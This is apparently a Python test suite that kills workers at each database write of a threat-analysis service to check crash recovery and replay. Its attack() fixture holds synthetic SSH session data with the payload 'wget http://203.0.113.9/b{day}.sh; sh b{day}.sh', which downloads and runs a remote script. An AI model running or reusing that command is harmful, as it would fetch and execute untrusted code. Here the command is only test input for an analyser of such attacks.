#!/usr/bin/env python3
"""kill -9 at every write of an analysis, exactly: on PostgreSQL a trigger holds the worker inside the transaction that writes a row, so that all before it is committed
and the row is not; there the worker dies. Whatever is killed where, the analysis ends as an undisturbed one does, and no question whose answer was committed is asked
again. The nodes are those of the undisturbed run: a new one is covered by itself."""
import collections
import json
import os
import signal
import socket
import sys
import types
import unittest
import urllib.parse

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../support"))
import providers  # noqa: E402
import servers  # noqa: E402
import serving  # noqa: E402
import support  # noqa: E402
import workers  # noqa: E402
from serving import eventually  # noqa: E402

ASKED = "isc,cymru,ripestat"

# A row in `hold` says at which write a worker is held. Of a node's answers: behind the first n. Done is 1 of runs and 2 of analyses (store.h).
TRAP = """
CREATE TABLE hold (kind text, node text, n bigint);
CREATE FUNCTION trap() RETURNS trigger LANGUAGE plpgsql AS $$
DECLARE
	held hold%ROWTYPE;
	row jsonb := to_jsonb(NEW);
BEGIN
	SELECT * INTO held FROM hold WHERE kind = TG_ARGV[0] AND node = coalesce(row->>'node', '');
	IF FOUND AND (TG_ARGV[0] <> 'answer' OR held.n <
	    (SELECT count(*) FROM workflow_effects e WHERE e.run = (row->>'run')::bigint AND e.node = held.node)) THEN
		PERFORM pg_sleep(3600);
	END IF;
	RETURN NULL;
END $$;
CREATE TRIGGER trap AFTER INSERT ON workflow_steps FOR EACH ROW EXECUTE FUNCTION trap('checkpoint');
CREATE TRIGGER trap AFTER INSERT ON workflow_effects FOR EACH ROW EXECUTE FUNCTION trap('answer');
CREATE TRIGGER trap_begin AFTER INSERT ON workflow_runs FOR EACH ROW EXECUTE FUNCTION trap('begin');
CREATE TRIGGER trap_end AFTER UPDATE ON workflow_runs FOR EACH ROW WHEN (NEW.status = 1) EXECUTE FUNCTION trap('end');
CREATE TRIGGER trap_finish AFTER UPDATE ON analyses FOR EACH ROW WHEN (OLD.status <> 2 AND NEW.status = 2) EXECUTE FUNCTION trap('finish');
"""


def attack():
    """Twelve sources of two networks with one tool, in step: something that look-ups could tell more about."""
    sessions = []
    for day in range(1, 4):
        for host in range(12):
            net = "45.9.20" if host < 8 else "45.9.31"
            sessions.append({"source_ip": f"{net}.{host + 3}", "timestamp": f"2025-07-{day:02d}T0{day}:{host % 3:02d}:1{host % 10}Z",
                             "payload": f"wget http://203.0.113.9/b{day}.sh; sh b{day}.sh", "target_port": 22, "protocol": "ssh"})
    return sessions


def key_of(request):
    """isc/ip/45.9.20.3, ripestat/routing-history/45.9.20.0/24, cymru/origin/45.9.20.0/24"""
    url = urllib.parse.urlsplit(request["path"])
    query = urllib.parse.parse_qs(url.query)
    if request["provider"] == "ripestat":
        return " ".join([f"ripestat/{url.path.split('/')[3]}/{query['resource'][0]}", *query.get("prefix", [])])
    if request["provider"] == "cymru":
        labels = url.path.removesuffix(".asn.cymru.com").split(".")
        return f"cymru/as/{labels[0]}" if len(labels) == 1 else f"cymru/{labels[-1]}/{'.'.join(reversed(labels[:-1]))}.0/24"
    return url.path.strip("/")


def without_times(value):
    """A result without what is another's in every run: ids, times, and hashes over them."""
    if isinstance(value, dict):
        return {k: without_times(v) for k, v in value.items()
                if k not in ("analysis_id", "fetched_us", "time", "sha256", "document_sha256", "judgement_sha256", "previous", "hash", "head")}
    return [without_times(v) for v in value] if isinstance(value, list) else value


class Kill(unittest.TestCase):
    maxDiff = 4000

    @classmethod
    def setUpClass(cls):
        try:
            cls.postgres = servers.Postgres()
            cls.addClassCleanup(cls.postgres.close)
            cls.redis = servers.Redis()
            cls.addClassCleanup(cls.redis.close)
        except servers.Missing as missing:
            raise unittest.SkipTest(str(missing))
        cls.folder = serving.new_folder(cls)
        cls.outside = providers.Providers(cls.folder)
        cls.outside.__enter__()
        cls.addClassCleanup(cls.outside.__exit__)
        with open(cls.outside.file, "w", encoding="utf-8") as f:  # nothing from the cache: only what the run recorded may spare a question
            json.dump(cls.outside.settings(hit_ttl="0s", miss_ttl="0s"), f)
        cls.settings = {"DATABASE_URL": cls.postgres.url, "REDIS_URL": cls.redis.url, "COORD_STATE_DIR": os.path.join(cls.folder, "state"),
                        "COORD_PROVIDERS": ASKED, "COORD_PROVIDERS_FILE": cls.outside.file, "COORD_RETRY_BASE": "50ms",
                        "COORD_RETRY_MOST": "200ms", "COORD_LEASE": "3s", "COORD_ATTEMPTS": "100"}
        migrated = support.coord("migrate", env=support.environment(**cls.settings))
        assert migrated.returncode == 0, migrated.stderr
        cls.psql(TRAP)
        cls.key = None
        cls.start()
        cls.plain = cls.submit()
        assert cls.ended(cls.plain)["status"] == "completed", cls.server.errors()
        cls.expected, cls.document = cls.asked(), without_times(cls.export(cls.plain))
        cls.nodes = cls.rows("SELECT s.node FROM workflow_steps s", cls.plain, "ORDER BY s.step")
        cls.answers = collections.Counter(cls.rows("SELECT s.node FROM workflow_effects s", cls.plain))
        cls.idents = [cls.plain]

    # --- the service ---

    @classmethod
    def start(cls):
        """An API without workers, and one worker."""
        cls.server = serving.Server(cls.folder, **{**cls.settings, "COORD_WORKERS": "0"})
        cls.addClassCleanup(cls.server.stop)
        cls.key = cls.server.key = cls.server.key or cls.key  # it is told once
        cls.worker = workers.Worker(types.SimpleNamespace(folder=cls.folder, addCleanup=cls.addClassCleanup),
                                    os.path.join(cls.folder, "worker.log"), **{**cls.settings, "COORD_WORKERS": "1"})

    @classmethod
    def submit(cls):
        answer = cls.server.post("/analyze/coordination", {"attack_sessions": attack(), "analysis_depth": "standard" if support.QUICK else "deep"})
        assert answer.status == 200, answer
        return answer.json()["analysis_id"]

    @classmethod
    def errors(cls):
        with open(cls.worker.log_path, encoding="utf-8", errors="replace") as f:
            return cls.server.errors() + f.read()[-4000:]

    @classmethod
    def ended(cls, ident):
        def look():
            answer = cls.server.get(f"/analyze/{ident}").json()
            return answer if answer["status"] in serving.TERMINAL else None
        try:
            return eventually(look, f"{ident} ends")
        except AssertionError as late:
            raise AssertionError(f"{late}\n{cls.errors()}") from None

    @classmethod
    def export(cls, ident):
        answer = cls.server.get(f"/analyze/{ident}/export?format=json")
        assert answer.status == 200, answer
        return answer.json()

    @classmethod
    def asked(cls):
        """Look-ups that reached the stand-ins, by the keys that the store has for them."""
        return collections.Counter(key_of(r) for r in cls.outside.requests())

    # --- the database ---

    @classmethod
    def psql(cls, statement):
        return cls.postgres.psql(statement, "coord").split("\n")[:-1]

    @classmethod
    def rows(cls, select, ident, more=""):
        return cls.psql(f"{select} JOIN workflow_runs r ON r.seq = s.run WHERE r.id = '{ident}' {more}")

    def kept(self, ident):
        """What is committed: steps by node, answers by key, each with all that it says."""
        steps = self.rows("SELECT s.node || '\t' || s::text FROM workflow_steps s", ident)
        answers = self.rows("SELECT s.node || ' ' || convert_from(s.key, 'UTF8') || '\t' || s::text FROM workflow_effects s", ident)
        return dict(row.split("\t", 1) for row in steps), dict(row.split("\t", 1) for row in answers)

    def release(self):
        """Nobody is held any more; and the server hears of the death of who was, as it would by itself in time."""
        self.psql("DELETE FROM hold")
        self.psql("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE wait_event = 'PgSleep'")

    # --- a death ---

    def wait_held(self, ident):
        def look():
            self.assertNotIn(self.server.get(f"/analyze/{ident}").json()["status"], serving.TERMINAL, "it ended, and nobody was held")
            return self.psql("SELECT 1 FROM pg_stat_activity WHERE wait_event = 'PgSleep'")
        eventually(look, "a worker is held")

    def kill_worker(self):
        pid, = self.worker.children()
        os.kill(pid, signal.SIGKILL)

    def die(self, kind, node="", n=0, kill=None):
        """An analysis whose worker dies in this write."""
        with self.subTest(kind=kind, node=node, n=n):
            try:
                self.psql(f"INSERT INTO hold VALUES ('{kind}', '{node}', {n})")
                self.outside.forget()
                ident = self.submit()
                self.wait_held(ident)
                (kill or self.kill_worker)()
                before = self.kept(ident)
            finally:
                self.release()
            if self.server.process.poll() is not None:
                self.start()
            self.check_before(kind, node, n, before)
            self.check_after(ident, before)

    def check_before(self, kind, node, n, before):
        """It was killed where it should be: all that comes before is committed, and this is not."""
        steps, answers = before
        done = set(self.nodes) if kind in ("end", "finish") else self.behind(node) if node else set()
        self.assertLessEqual(done, set(steps))
        self.assertNotIn(node, steps)
        if kind == "begin":
            self.assertEqual(({}, {}), before)
        for other, all_of_it in self.answers.items():
            theirs = sum(key.startswith(other + " ") for key in answers)
            if kind == "answer" and other == node:
                self.assertEqual(n, theirs)
            elif other in done or other == node:
                self.assertEqual(all_of_it, theirs)

    def behind(self, node):
        """The steps that come before a node, as the chain tells it."""
        found, todo = {self.nodes[0]} - {node}, [node]
        while todo:
            at = todo.pop()
            more = {link["node"] for link in self.document["evidence_chain"] if at in link.get("next", [])} - found
            found |= more
            todo += more
        return found

    def check_after(self, ident, before):
        answer = self.ended(ident)
        self.assertEqual("completed", answer["status"], answer)
        asked = self.asked()
        after = self.kept(ident)
        for then, now in zip(before, after):  # what was committed stands as it was
            self.assertEqual(then, {key: now.get(key) for key in then})
        self.assertEqual(set(self.nodes), set(after[0]))
        self.assertEqual(set(self.expected), {key.split(" ", 1)[1] for key in after[1]})
        self.assertEqual(set(self.expected), set(asked))
        again = {key for key in asked if asked[key] > 1}
        self.assertEqual(set(), again & {key.split(" ", 1)[1] for key in before[1]}, "asked again")
        self.assertLessEqual(max(asked.values()), 2)
        self.assertEqual(["2"], self.psql(f"SELECT attempts FROM analyses WHERE id = '{ident}'"))
        self.assertEqual(["1 0"], self.psql("SELECT count(*) FILTER (WHERE type = 'completed') || ' ' || count(*) FILTER (WHERE type = 'failed') "
                                            f"FROM events e JOIN analyses a ON a.seq = e.analysis WHERE a.id = '{ident}'"))
        document = self.export(ident)
        self.assertEqual(self.document, without_times(document))
        path = os.path.join(self.folder, "result.json")
        with open(path, "w", encoding="utf-8") as f:
            json.dump(document, f)
        verified = support.coord("verify", "--document-only", path)
        self.assertEqual(0, verified.returncode, verified.stdout)
        self.assertIn(b"links and", verified.stdout)
        self.idents.append(ident)

    # --- every write ---

    def test_1_undisturbed(self):
        self.assertEqual({key: 1 for key in self.expected}, self.expected)
        self.assertEqual(len(self.expected), sum(self.answers.values()))
        self.assertGreaterEqual(len(self.answers), 2, "nodes that ask somebody")
        self.assertEqual(self.nodes, [link["node"] for link in self.document["evidence_chain"]])

    def test_2_a_step_is_done_and_its_checkpoint_is_not(self):
        for node in self.nodes[::3] if support.QUICK else self.nodes:
            self.die("checkpoint", node)

    def test_3_an_answer_is_there_and_its_record_is_not(self):
        for node, n in self.answers.items():
            for behind in (n // 2,) if support.QUICK else (0, n // 2, n - 1):
                self.die("answer", node, behind)

    def test_4_a_run_begins_and_ends(self):
        for kind in ("begin", "end", "finish"):
            self.die(kind)

    def test_5_all_processes_die(self):
        def kill():
            self.worker.kill()
            self.server.stop(signal.SIGKILL)
        self.die("answer", max(self.answers, key=self.answers.get), 3, kill)

    def test_6_replay_asks_nobody(self):
        for listener in (self.outside.listener, self.outside.dns.tcp):
            listener.shutdown(socket.SHUT_RDWR)
        self.outside.__exit__()
        self.outside.forget()
        replay = support.coord("workflow", "replay", *self.idents, env=support.environment(**self.settings), cwd=self.folder)
        self.assertEqual(0, replay.returncode, replay.stdout + replay.stderr)
        lines = replay.stdout.decode().splitlines()
        self.assertEqual(len(self.idents), len(lines))
        for line in lines:
            self.assertRegex(line, r": identical$")
        self.assertEqual([], self.outside.requests())


if __name__ == "__main__":
    unittest.main(verbosity=2)
